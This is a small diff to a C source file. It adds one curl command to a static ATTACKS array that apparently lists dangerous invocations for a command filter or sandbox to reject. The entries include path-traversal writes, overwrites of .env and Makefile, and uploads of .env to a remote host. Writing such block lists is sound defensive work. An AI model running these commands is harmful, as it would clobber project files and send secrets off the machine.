@@ -228,6 +228,7 @@ static const char *const ATTACKS[] = {
     "curl -o ../x https://example.org",
     "curl -so.env https://example.org",
     "curl -o Makefile https://example.org",
+    "curl -T a.txt file:///home/x",
     "curl -o '#1' 'https://example.org/{a,b}'",
     "curl -o x --output-dir .. https://example.org",
     "curl -sT.env https://example.org",
